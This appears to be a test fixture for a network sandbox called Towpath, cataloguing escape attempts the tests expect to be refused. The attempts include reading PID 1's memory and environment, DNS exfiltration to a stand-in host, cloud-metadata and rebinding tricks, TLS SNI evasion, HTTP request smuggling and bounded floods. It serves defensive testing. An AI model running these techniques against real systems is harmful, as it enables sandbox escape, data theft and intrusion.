"""Ways out of a run that are closed: what a hostile program does, under which policy, and what Towpath says of it.

Each `tries` is an expression in the vocabulary of `tests.support.attempts`, `tests.support.evasions` and `WORDS` below.
It has worked when it gives a value; and whatever it gives, nothing may leave but to the hosts of the policy.
"""

# A row is one escape, however long its request is.
# ruff: noqa: E501

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["ESCAPES", "WORDS", "Escape"]

WEB = ("--allow", "web.test:443", "--allow", "web.test:80")

WORDS = r"""

def worked(*words):
    # A program has done what it was asked.
    done = subprocess.run(words, capture_output=True, stdin=subprocess.DEVNULL, timeout=120)
    if done.returncode:
        raise OSError(errno.EPERM, "it failed")
    return done.stdout

def answered(data):
    if not isinstance(data, bytes) or data[3] & 15 or not int.from_bytes(data[6:8], "big"):
        raise OSError(errno.ENODATA, "no answer")
    return data

def served(lines):
    if not any(" 200 " in line for line in lines):
        raise OSError(errno.ENODATA, "no page")
    return lines

def request(text, host="web.test", port=80):
    return served(http(host, port, text.encode("latin-1"), answers=1))

def datagram(address, port, data=b"x", seconds=60):
    # No errors come back for datagrams to groups: those have no time.
    return connect(address, port, socket.SOCK_DGRAM, seconds=seconds)

def i386(*words):
    page = mmap.mmap(-1, 4096, prot=7)
    # push rbx; mov eax,edi; mov ebx,esi; xchg ecx,edx; int 0x80; cdqe; pop rbx; ret
    page.write(bytes.fromhex("53 89f8 89f3 87d1 cd80 4898 5b c3"))
    call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_uint] * 4)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = call(*words)
    if result < 0:
        raise OSError(-result, "")
    return result

def netfilter(kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 5, 1, 0) + body)
    code = struct.unpack_from("=i", s.recv(4096), 16)[0]
    if code:
        raise OSError(-code, "")
    return "taken"

def with_extension(first, kind, body):
    # A ClientHello with one more extension (RFC 8446 section 4.1.2).
    hello = bytearray(first[9:])
    at = 34 + 1 + hello[34]
    at += 2 + int.from_bytes(hello[at:at + 2], "big")
    at += 1 + hello[at]
    more = struct.pack(">HH", kind, len(body)) + body
    hello[at:at + 2] = struct.pack(">H", int.from_bytes(hello[at:at + 2], "big") + len(more))
    hello += more
    return first[:3] + struct.pack(">H", len(hello) + 4) + b"\x01" + len(hello).to_bytes(3, "big") + bytes(hello)

def ech(data):
    # A GREASE of RFC 9849: an outer ClientHello with random bytes for the inner one.
    body = b"\x00\x00\x01\x00\x01\x07\x00\x20" + os.urandom(32) + b"\x00\x90" + os.urandom(144)
    return [with_extension(data, 0xfe0d, body)]

def late(host, name):
    layer, back, out, first = hello(name)
    with dial(host, 443) as s:
        time.sleep(2)
        s.sendall(first)
        return s.recv(100) or gone()

def gone():
    raise ConnectionResetError(errno.ECONNRESET, "")

def from_address(address, where, port):
    with socket.socket() as s:
        s.bind((address, 0))
        s.settimeout(60)
        s.connect((where, port))
        return "connected"

def left_open():
    names = [os.readlink("/proc/self/fd/" + number) for number in os.listdir("/proc/self/fd") if int(number) > 2]
    return [name for name in names if "socket" in name or "anon" in name] or gone()

def greeted(host, name, shape):
    # Whether a server has answered a hello with one of its own.
    with dial(host, 443) as s:
        for piece in shape(hello(name)[3]):
            s.sendall(piece)
        return s.recv(99)[:1] == b"\x16" or gone()

def flood(kind, count):
    # Bounded: `count` destinations, a packet each.
    sent = 0
    for number in range(count):
        with socket.socket(type=kind) as s:
            s.setblocking(False)
            try:
                s.connect((f"203.0.{number >> 8 & 255}.{number & 255}", 1 + number % 65535))
                s.send(b"x")
                sent += 1
            except OSError:
                pass
    time.sleep(0.3)
    raise OSError(errno.ENODATA, f"{sent} sent")
"""


@dataclass(frozen=True)
class Escape:
    """`says` is part of what Towpath says of it; what the kernel refuses it says nothing of."""

    tries: str
    options: tuple[str, ...] = WEB
    says: str = ""


_ANY_NAME = ("--allow", "http://*:80", "--deny", "tracker.test")
_GET = "GET / HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n"


def _request(text: str) -> Escape:
    return Escape(f'request("{text}")', says="refused")


ESCAPES: dict[str, Escape] = {
    # The first process, the manager, the kernel's own ways.
    "ptrace the first process": Escape("c('ptrace', 16, 1, 0, 0)"),
    "read the memory of the first process": Escape("open('/proc/1/mem', 'rb').read(1)"),
    "read its environment": Escape("open('/proc/1/environ').read()"),
    "take one of its descriptors": Escape("c('syscall', 438, os.pidfd_open(1), 0, 0)"),
    "join its network by a pidfd": Escape("c('setns', os.pidfd_open(1), 0x40000000)"),
    "open its network namespace": Escape("os.open('/proc/1/ns/net', os.O_RDONLY)"),
    "signal a process of the host": Escape("os.kill(HOST_PID, 0)"),
    "see a process of the host": Escape("os.listdir('/proc/HOST_PID')"),
    "flush the rules": Escape("worked('/usr/sbin/nft', 'flush', 'ruleset')"),
    "add a device": Escape("worked('/usr/sbin/ip', 'link', 'add', 'v0', 'type', 'veth')"),
    "add a route": Escape("worked('/usr/sbin/ip', 'route', 'add', 'default', 'dev', 'lo')"),
    "name a network namespace": Escape("worked('/usr/sbin/ip', 'netns', 'add', 'mine')"),
    "bind the packet queue": Escape("netfilter(0x302, bytes(4) + struct.pack('=HHBxH', 8, 1, 1, 0))"),
    "answer for the packet queue": Escape("netfilter(0x301, bytes(4) + struct.pack('=HH', 12, 2) + struct.pack('>II', 1, 1))"),
    "a raw socket": Escape("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)"),
    "a packet socket": Escape("socket.socket(17, socket.SOCK_RAW)"),
    "a mark on a socket": Escape("socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1) or 'marked'"),
    "a transparent socket": Escape("socket.socket().setsockopt(socket.IPPROTO_IP, 19, 1) or 'set'"),
    "TCP repair mode": Escape("socket.socket().setsockopt(socket.IPPROTO_TCP, 19, 1) or 'set'"),
    "a TUN device": Escape("fcntl.ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454CA, struct.pack('16sH22x', b't0', 1))"),
    "become root by su": Escape("worked('/bin/su', '-c', 'true')"),
    "ping by a file capability": Escape("worked('/usr/bin/ping', '-c1', '-W1', TRACKER)", says="refused"),
    "a network namespace of its own": Escape("worked('/usr/bin/unshare', '-Urn', '/usr/bin/curl', '-sfm1', f'http://{TRACKER}/')"),
    "rights over the run by a user namespace": Escape("worked('/usr/bin/unshare', '-Ur', '/usr/sbin/nft', 'flush', 'ruleset')"),
    "a cgroup namespace of its own": Escape("worked('/usr/bin/unshare', '-UrC', 'true')"),
    "flags where no filter can read them": Escape("c('syscall', 435, (ctypes.c_ulong * 11)(0x12000000), 88)"),
    "freeze others by their control group": Escape("[line for line in open('/proc/self/mountinfo') if ' - cgroup' in line and not line.split()[5].startswith('ro')] or gone()"),
    "take the descriptors of the first process": Escape("c('prlimit', 1, 7, (LONG * 2)(0, 0), None)"),
    "io_uring": Escape("c('syscall', 425, 8, bytes(120))"),
    "x32 system calls": Escape("c('syscall', 0x40000000 | 41, 2, 1, 0)"),
    "i386 system calls": Escape("i386(359, 40, 1, 0)"),
    "i386 socketcall": Escape("i386(102, 1, 0, 0)"),
    "VSOCK": Escape("socket.socket(40, socket.SOCK_STREAM)"),
    "VSOCK behind high bits": Escape("c('syscall', 41, LONG(40 | 1 << 32), 1, 0)"),
    "kernel keys and their helper": Escape("c('syscall', 249, b'dns_resolver', b'x.test', b'', -2)"),
    "type into the terminal": Escape("fcntl.ioctl(os.openpty()[1], 0x5412, b'x')"),
    "step the clock": Escape("time.clock_settime(time.CLOCK_REALTIME, time.time() + 86400) or 'stepped'"),
    "the system bus": Escape("socket.socket(socket.AF_UNIX).connect('/run/dbus/system_bus_socket') or 'connected'"),
    "a descriptor that was left open": Escape("left_open()"),
    # The relay and the addresses inside.
    "the relay's own port": Escape("dial('192.0.2.1', 9)"),
    "bind the port of the name server": Escape("socket.socket(type=socket.SOCK_DGRAM).bind(('0.0.0.0', 53)) or 'bound'"),
    "a forged source": Escape("from_address(TRACKER, TRACKER, 80)", says="refused"),
    "a forged source to an allowed host": Escape("from_address('203.0.113.9', TRACKER, 443)", says="refused"),
    "UDP-Lite": Escape("socket.socket(2, 2, 136).sendto(b'x', (TRACKER, 9000)) and gone()"),
    "SCTP": Escape("socket.socket(2, 1, 132).connect((TRACKER, 80)) or 'connected'"),
    "the host's loopback": Escape("dial('127.0.0.1', 7007)"),
    "the host's own address": Escape("dial(CLIENT, 7007)", ("--allow", "tcp://*:7007"), says="an address of this host"),
    "cloud metadata": Escape("dial('169.254.169.254', 80)", ("--allow", "tcp://*:80"), says="link-local"),
    "an address as one number": Escape("dial(str(int.from_bytes(socket.inet_aton(TRACKER), 'big')), 80)", says="refused"),
    "IPv4 mapped into IPv6": Escape("dial('::ffff:' + TRACKER, 80)"),
    "IPv4 compatible": Escape("dial('::' + TRACKER, 80)"),
    "NAT64": Escape("dial('64:ff9b::' + TRACKER, 80)"),
    "NAT64 to the loopback": Escape("dial('64:ff9b::7f00:1', 7007)", ("--allow", "tcp://*:7007")),
    "6to4": Escape("dial('2002:' + socket.inet_aton(TRACKER).hex(':', 2) + '::1', 80)"),
    "Teredo to the metadata": Escape("dial('2001:0:a9fe:a9fe::fefd:fcfb', 80)", ("--allow", "tcp://*:80")),
    "a zone id": Escape("dial('fe80::1%lo', 80)", ("--allow", "tcp://*:80")),
    "multicast to neighbours": Escape("datagram('224.0.0.251', 5353, seconds=0.5)", ("--allow", "udp://*:5353")),
    "broadcast": Escape("datagram('255.255.255.255', 9000, seconds=0.5)", ("--allow", "udp://*:9000")),
    # Names.
    "another resolver": Escape("answered(ask('8.8.8.8', question('tracker.test')))", says="tracker.test"),
    "another resolver over TCP": Escape("answered(ask_stream('1.1.1.1', question('tracker.test')))", says="tracker.test"),
    "DNS over TLS": Escape("tls('9.9.9.9', 853, 'dns.quad9.net')", says="refused"),
    "DNS over TLS at an allowed host": Escape("tls('web.test', 853, 'web.test')", says="refused"),
    "DNS over HTTPS": Escape("tls('1.1.1.1', 443, 'cloudflare-dns.com')", says="refused"),
    "DNS over HTTPS under an allowed name": Escape("tls('1.1.1.1', 443, 'web.test')", says="refused"),
    "DNS over QUIC": Escape("datagram('94.140.14.14', 853)", says="refused"),
    "a name that carries data": Escape("answered(ask('192.0.2.2', question('c2VjcmV0.tracker.test')))", says="refused"),
    "text records": Escape("answered(ask('192.0.2.2', question('tracker.test', 16)))", says="refused"),
    "a name below an allowed one": Escape("answered(ask('192.0.2.2', question('secret.web.test')))", says="refused"),
    "two questions in one": Escape("answered(ask('192.0.2.2', question('web.test', counts=(2, 0, 0, 0), tail=question('tracker.test')[12:])))"),
    "data behind a question": Escape("answered(ask('192.0.2.2', question('web.test', tail=b'secret')))"),
    "a dynamic update": Escape("answered(ask('192.0.2.2', question('web.test', flags=0x2800)))"),
    "rebinding to the loopback": Escape("dial('rebind.test', 7007)", ("--allow", "tcp://rebind.test:7007"), says="127.0.0.1"),
    "rebinding to the metadata": Escape("dial('metadata.test', 80)", ("--allow", "tcp://metadata.test:80"), says="169.254"),
    "rebinding to a private network": Escape("dial('internal.test', 80)", ("--allow", "tcp://internal.test:80"), says="10.1.2.3"),
    "rebinding inside IPv6": Escape("dial('mapped.test', 80)", ("--allow", "tcp://mapped.test:80"), says="10.0.0.1"),
    "a forged hosts file": Escape("worked('/usr/bin/unshare', '-Urm', 'sh', '-c', f'echo {TRACKER} web.test > hosts && mount --bind hosts /etc/hosts && curl -sfm60 http://web.test/')", says="refused"),
    "a resolver of its own choice": Escape("worked('/usr/bin/curl', '-sfm60', '--resolve', f'web.test:80:{TRACKER}', 'http://web.test/')", says="refused"),
    "a name that looks alike": Escape("dial('w\u0435b.test', 443)", says="xn--"),
    "a denied name in mixed case": Escape("request('GET / HTTP/1.1\\r\\nHost: TrAcKeR.TeSt\\r\\n\\r\\n', 'TrAcKeR.TeSt')", _ANY_NAME, says="refused"),
    "a denied name with a dot": Escape("request('GET / HTTP/1.1\\r\\nHost: tracker.test.\\r\\n\\r\\n', 'tracker.test.')", _ANY_NAME, says="refused"),
    "an answer for no time": Escape("http('brief.test', 80, b'GET / HTTP/1.1\\r\\nHost: tracker.test\\r\\n\\r\\n') and request('GET / HTTP/1.1\\r\\nHost: tracker.test\\r\\n\\r\\n', 'brief.test')", ("--allow", "brief.test:80"), says="refused"),
    "an answer for a year": Escape("request('GET / HTTP/1.1\\r\\nHost: tracker.test\\r\\n\\r\\n', 'lasting.test')", ("--allow", "lasting.test:80"), says="refused"),
    # TLS and QUIC.
    "another name at an allowed address": Escape("tls('web.test', 443, 'www.web.test')", says="refused"),
    "no name": Escape("tls('web.test', 443, None)", says="refused"),
    "a hello in pieces": Escape("tls('web.test', 443, 'www.web.test', lambda d: [d[i:i + 1] for i in range(len(d))])", says="refused"),
    "a hello in small records": Escape("tls('web.test', 443, 'www.web.test', lambda d: [records(d, 3)])", says="refused"),
    "a late hello": Escape("late('web.test', 'www.web.test')", says="refused"),
    "a hello with GREASE for ECH": Escape("greeted('web.test', 'www.web.test', ech)", says="refused"),
    "keys for ECH by DNS": Escape("b'\\xfe\\x0d' in ask('192.0.2.2', question('modern.test', 65)) or gone()", ("--allow", "modern.test:443")),
    "an allowed hello at a foreign address": Escape("tls(TRACKER, 443, 'web.test')", says="refused"),
    "SSH on the port of TLS": Escape("(s := dial('web.test', 443), s.sendall(b'SSH-2.0-x\\r\\n'), s.recv(99) or gone())[2]", says="refused"),
    "a server that speaks first": Escape("dial('git.test', 22, 0.7).recv(99)", ("--allow", "tls://git.test:22")),
    "a datagram that is no QUIC": Escape("datagram('web.test', 443)", says="refused"),
    "a QUIC packet without a handshake": Escape("datagram(WEB, 443, b'\\x40' + os.urandom(1199))", says="refused"),
    # Plain HTTP.
    "another Host": _request(_GET.format("www.web.test")),
    "an absolute form": _request("GET http://www.web.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n"),
    "two Hosts": _request("GET / HTTP/1.1\\r\\nHost: web.test\\r\\nHost: www.web.test\\r\\n\\r\\n"),
    "a folded Host": _request("GET / HTTP/1.1\\r\\nHost:\\r\\n www.web.test\\r\\n\\r\\n"),
    "user information in Host": _request(_GET.format("web.test@www.web.test")),
    "CONNECT through a web server": _request("CONNECT tracker.test:443 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n"),
    "an upgrade to TLS": _request("GET / HTTP/1.1\\r\\nHost: web.test\\r\\nUpgrade: TLS/1.0\\r\\nConnection: Upgrade\\r\\n\\r\\n"),
    "HTTP/2 at once": _request("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"),
    "smuggling by length and chunks": _request("POST / HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: www.web.test\\r\\n\\r\\n"),
    "smuggling by a disguised coding": _request("POST / HTTP/1.1\\r\\nHost: web.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n"),
    "smuggling by two lengths": _request("POST / HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\n"),
    "a bare carriage return": _request("GET / HTTP/1.1\\r\\nHost: web.test\\rHost: www.web.test\\r\\n\\r\\n"),
    "HTTP/0.9": _request("GET /\\r\\n"),
    # Floods, bounded.
    "a flood of datagrams": Escape("flood(socket.SOCK_DGRAM, 3000)", says="refused"),
    "a flood of connections": Escape("flood(socket.SOCK_STREAM, 1000)", says="refused"),
}  # fmt: skip
